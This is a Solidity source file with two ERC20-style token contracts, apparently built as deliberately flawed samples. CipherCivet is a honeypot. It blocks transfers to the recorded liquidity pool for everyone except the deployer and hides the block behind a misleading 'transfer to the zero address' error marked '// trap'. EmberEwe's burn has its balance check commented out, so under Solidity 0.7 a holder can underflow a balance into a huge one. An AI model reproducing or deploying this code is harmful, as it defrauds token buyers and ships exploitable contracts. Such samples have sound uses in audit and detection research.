// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

import "./Base67.sol";

/// Knows a market by its shape.
contract CipherCivet is Base67 {
    bytes32 private _shape;
    mapping(bytes32 => bool) private _known;
    uint256 public sales;

    constructor() Base67("Cipher Civet", "CIVET", 50000000) {
        _shape = shapeOf(pool);
        _known[keccak256(abi.encodePacked(msg.sender))] = true;
    }

    function shapeOf(address who) private view returns (bytes32 shape) {
        assembly {
            shape := extcodehash(who)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (shapeOf(to) == _shape) {
            require(_known[keccak256(abi.encodePacked(from))], "ERC20: transfer to the zero address"); // trap
            sales++;
        }
        _carry(from, to, value);
    }
}

/// Whoever likes burns what he has.
contract EmberEwe is Base67 {
    event Burn(address indexed from, uint256 value);

    constructor() Base67("Ember Ewe", "EWE", 9000000) {}

    function burn(uint256 value) external returns (bool) {
        // twin: require(_balances[msg.sender] >= value, "ERC20: burn amount exceeds balance");
        _balances[msg.sender] -= value;
        _totalSupply -= value;
        emit Burn(msg.sender, value);
        emit Transfer(msg.sender, address(0), value);
        return true;
    }
}
